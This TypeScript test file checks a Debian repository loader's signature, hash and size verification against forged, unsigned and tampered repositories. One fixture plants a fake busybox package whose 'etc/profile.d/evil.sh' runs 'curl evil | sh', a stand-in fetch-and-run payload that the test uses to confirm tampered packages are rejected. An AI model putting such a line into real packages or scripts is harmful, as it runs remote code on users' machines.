import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, copyFileSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { fetchDeb, loadIndex } from '../../src/debian/repository.ts';
import type { PackageInfo, RepoSource } from '../../src/debian/types.ts';
import { UserError } from '../../src/util/errors.ts';
import { tempDir } from '../appc/fixtures/aci-layout.ts';
import { buildDeb, makeDebianRepo, serveDir, type DebianRepo, type FakePackage } from '../helpers/debian-repo.ts';
import { Gpg } from '../trust/helpers.ts';

// loadIndex and fetchDeb against real repositories: made by dpkg-scanpackages, signed by
// gpg, served over HTTP on 127.0.0.1 or read from disk.

const PACKAGES: FakePackage[] = [
  { name: 'busybox', version: '1:1.36.1-9', fields: { 'Multi-Arch': 'foreign' } },
  { name: 'libc6', version: '2.36-9', fields: { 'Multi-Arch': 'same', Provides: 'libc6-dev-stub (= 2.36)' } },
  { name: 'tzdata', version: '2024a-1', architecture: 'all', compression: 'gzip' },
  { name: 'app', version: '1.0', fields: { Depends: 'libc6 (>= 2.36), busybox | toybox' }, postinst: '#!/bin/sh\n', compression: 'zstd' },
];

const base = await tempDir('debian-repo');
const gpg = new Gpg(join(base, 'gnupg'));
const repo = makeDebianRepo(join(base, 'good'), { arches: ['armhf', 'arm64'], packages: PACKAGES, sign: gpg, binaryAll: true });

const source = (r: DebianRepo, uri: string, keyring = r.keyring): RepoSource => ({ uri, suite: r.suite, components: r.components, ...(keyring ? { keyring } : {}) });

async function refused(promise: Promise<unknown>, message: RegExp): Promise<void> {
  await assert.rejects(promise, (err: Error) => {
    assert.ok(err instanceof UserError, `expected a UserError, got ${err.stack}`);
    assert.doesNotMatch(err.message, /\n/);
    assert.match(err.message, message);
    return true;
  });
}

function names(packages: PackageInfo[]): string[] {
  return packages.map((p) => `${p.name}=${p.version}:${p.architecture}`).sort();
}

const ARMHF = ['app=1.0:armhf', 'busybox=1:1.36.1-9:armhf', 'libc6=2.36-9:armhf', 'tzdata=2024a-1:all'];

test('loads a signed repository over HTTP, and fetches a .deb into the cache by SHA-256', async () => {
  const server = await serveDir(repo.root);
  after(() => server.close());
  const cacheDir = join(base, 'cache-http');
  const packages = await loadIndex(source(repo, server.url), 'armhf', { cacheDir });
  // tzdata is in binary-armhf and binary-all: listed once.
  assert.deepEqual(names(packages), ARMHF);
  assert.ok(server.seen.some((s) => s.endsWith('/dists/testing/InRelease')));
  assert.ok(server.seen.some((s) => s.endsWith('/main/binary-armhf/Packages.xz')));
  const app = packages.find((p) => p.name === 'app')!;
  assert.deepEqual(app.depends, [[{ name: 'libc6', op: '>=', version: '2.36' }], [{ name: 'busybox' }, { name: 'toybox' }]]);
  assert.match(app.filename, /^pool\/main\/app_1\.0_armhf\.deb$/);

  const path = await fetchDeb(source(repo, server.url), app, { cacheDir });
  assert.equal(path, join(cacheDir, 'by-sha256', app.sha256!));
  const requests = server.seen.length;
  assert.equal(await fetchDeb(source(repo, server.url), app, { cacheDir }), path);
  assert.equal(server.seen.length, requests, 'the second fetch is served by the cache');
  // Only files that matched are kept.
  assert.ok(readdirSync(join(cacheDir, 'by-sha256')).every((f) => /^[0-9a-f]{64}$/.test(f)));
});

test('loads from a local directory and a file:// URI, reading files in place', async () => {
  const fromPath = await loadIndex(source(repo, repo.root), 'arm64');
  assert.deepEqual(names(fromPath), ['app=1.0:arm64', 'busybox=1:1.36.1-9:arm64', 'libc6=2.36-9:arm64', 'tzdata=2024a-1:all']);
  const fromUrl = await loadIndex(source(repo, pathToFileURL(repo.root).href), 'arm64');
  assert.deepEqual(fromUrl, fromPath);
  const busybox = fromPath.find((p) => p.name === 'busybox')!;
  assert.equal(await fetchDeb(source(repo, repo.root), busybox, { cacheDir: join(base, 'unused') }), join(repo.root, busybox.filename));
});

test('falls back to Release and Release.gpg, and reads Packages.gz or plain Packages', async () => {
  for (const indexes of [['gz'], ['none']] as const) {
    const r = makeDebianRepo(join(base, `detached-${indexes[0]}`), { arches: ['armhf'], packages: PACKAGES, sign: gpg, indexes: [...indexes] });
    rmSync(join(r.root, 'dists/testing/InRelease'));
    assert.deepEqual(names(await loadIndex(source(r, r.root), 'armhf')), ARMHF);
  }
});

test('accepts a keyring of several keys, armored or binary, or a directory of keyrings', async () => {
  const other = new Gpg(join(base, 'gnupg-several'));
  other.genKey('someone else <else@example.com>');
  const dir = join(base, 'trusted.gpg.d');
  mkdirSync(dir);
  writeFileSync(join(dir, 'else.asc'), other.run(['--armor', '--export']));
  copyFileSync(repo.keyring!, join(dir, 'repo.gpg'));
  assert.equal((await loadIndex(source(repo, repo.root, dir), 'armhf')).length, 4);
  other.run(['--import'], gpg.run(['--export']));
  const both = join(base, 'both.asc');
  writeFileSync(both, other.run(['--armor', '--export']));
  assert.equal((await loadIndex(source(repo, repo.root, both), 'armhf')).length, 4);
});

test('refuses a repository signed by another key', async () => {
  const mallory = new Gpg(join(base, 'gnupg-mallory'));
  const forged = makeDebianRepo(join(base, 'forged'), { arches: ['armhf'], packages: PACKAGES, sign: mallory });
  const server = await serveDir(forged.root);
  after(() => server.close());
  await refused(
    loadIndex(source(forged, server.url, repo.keyring), 'armhf'),
    new RegExp(`^cross: ${server.url}dists/testing/InRelease: not signed by a key in ${repo.keyring}$`),
  );
  rmSync(join(forged.root, 'dists/testing/InRelease'));
  await refused(loadIndex(source(forged, server.url, repo.keyring), 'armhf'), /^cross: http:.*\/dists\/testing\/Release: not signed by a key in /);
});

test('refuses an InRelease altered after signing', async () => {
  const r = makeDebianRepo(join(base, 'altered'), { arches: ['armhf'], packages: PACKAGES, sign: gpg });
  const inRelease = join(r.root, 'dists/testing/InRelease');
  writeFileSync(inRelease, readFileSync(inRelease, 'utf8').replace('Label: rkt tests', 'Label: rkt tesTs'));
  await refused(loadIndex(source(r, r.root), 'armhf'), /InRelease: the signature does not verify \(/);
});

test('refuses a tampered Packages index: SHA256 mismatch against Release', async () => {
  const r = makeDebianRepo(join(base, 'tampered'), { arches: ['armhf'], packages: PACKAGES, sign: gpg, indexes: ['none'] });
  const packages = join(r.root, 'dists/testing/main/binary-armhf/Packages');
  // Same size, so the hash is what catches it.
  writeFileSync(packages, readFileSync(packages, 'utf8').replace('Version: 1.0', 'Version: 6.6'));
  const server = await serveDir(r.root);
  after(() => server.close());
  await refused(
    loadIndex(source(r, server.url), 'armhf'),
    new RegExp(`^cross: armhf: ${server.url}dists/testing/main/binary-armhf/Packages: SHA256 mismatch \\(Release says [0-9a-f]{64}, got [0-9a-f]{64}\\)$`),
  );
  appendFileSync(packages, '\n');
  await refused(loadIndex(source(r, r.root), 'armhf'), /^cross: armhf: .*\/Packages: size mismatch \(Release says \d+ bytes, got \d+\)$/);
});

test('refuses an arch the repository does not have', async () => {
  await refused(loadIndex(source(repo, repo.root), 'armel'), /^cross: armel: .*\/dists\/testing\/Release: the repository has no armel packages \(it has armhf, arm64\)$/);
  await refused(loadIndex({ ...source(repo, repo.root), architectures: ['amd64'] }, 'armhf'), /^cross: armhf: .* testing is for amd64 only$/);
});

test('refuses a repository without a keyring unless insecure', async () => {
  await refused(loadIndex(source(repo, repo.root, null), 'armhf'), /InRelease: no keyring to check its signature with; .*--insecure-options=image/);
  assert.deepEqual(names(await loadIndex(source(repo, repo.root, null), 'armhf', { insecure: true })), ARMHF);
});

test('refuses an unsigned repository even with a keyring', async () => {
  const r = makeDebianRepo(join(base, 'unsigned'), { arches: ['armhf'], packages: PACKAGES, sign: null });
  await refused(loadIndex(source(r, r.root, repo.keyring), 'armhf'), /Release: not signed \(no InRelease, no Release\.gpg\)$/);
  assert.equal((await loadIndex(source(r, r.root, null), 'armhf', { insecure: true })).length, 4);
});

test('refuses a wrong suite', async () => {
  await refused(loadIndex({ ...source(repo, repo.root), suite: 'stable' }, 'armhf'), /dists\/stable\/: no InRelease or Release file; is the suite "stable" right\?$/);
});

test('fetchDeb refuses a tampered .deb', async () => {
  const r = makeDebianRepo(join(base, 'tampered-deb'), { arches: ['armhf'], packages: PACKAGES, sign: gpg });
  const server = await serveDir(r.root);
  after(() => server.close());
  const cacheDir = join(base, 'cache-tampered');
  const busybox = (await loadIndex(source(r, server.url), 'armhf')).find((p) => p.name === 'busybox')!;
  // Another build under the same name, cut or padded to the same size: only the hash tells.
  const evil = buildDeb(join(base, 'tampered-deb'), { name: 'busybox', version: '1:1.36.1-9', files: { 'etc/profile.d/evil.sh': 'curl evil | sh' } }, 'armhf');
  truncateSync(evil, busybox.size);
  assert.equal(statSync(evil).size, busybox.size);
  writeFileSync(join(r.root, busybox.filename), readFileSync(evil));
  await refused(
    fetchDeb(source(r, server.url), busybox, { cacheDir }),
    new RegExp(`^cross: armhf: ${server.url}${busybox.filename}: SHA256 mismatch \\(Packages says ${busybox.sha256}, got [0-9a-f]{64}\\)$`),
  );
  assert.deepEqual(readdirSync(join(cacheDir, 'by-sha256')), [], 'nothing is left in the cache');
});

test('indexes a plain directory of .deb files', async () => {
  const dir = join(base, 'debs');
  mkdirSync(dir);
  for (const arch of ['armhf', 'arm64']) buildDeb(dir, { name: 'tool', version: '3' }, arch);
  buildDeb(dir, { name: 'data', version: '1' }, 'all');
  const packages = await loadIndex({ uri: dir }, 'armhf');
  assert.deepEqual(names(packages), ['data=1:all', 'tool=3:armhf']);
  const tool = packages.find((p) => p.name === 'tool')!;
  assert.equal(tool.filename, join(dir, 'tool_3_armhf.deb'));
  assert.match(tool.sha256!, /^[0-9a-f]{64}$/);
  assert.equal(await fetchDeb({ uri: dir }, tool, { cacheDir: join(base, 'unused') }), tool.filename);
  appendFileSync(tool.filename, 'x');
  await refused(fetchDeb({ uri: dir }, tool, { cacheDir: join(base, 'unused') }), /^cross: armhf: .*tool_3_armhf\.deb: size mismatch/);
});
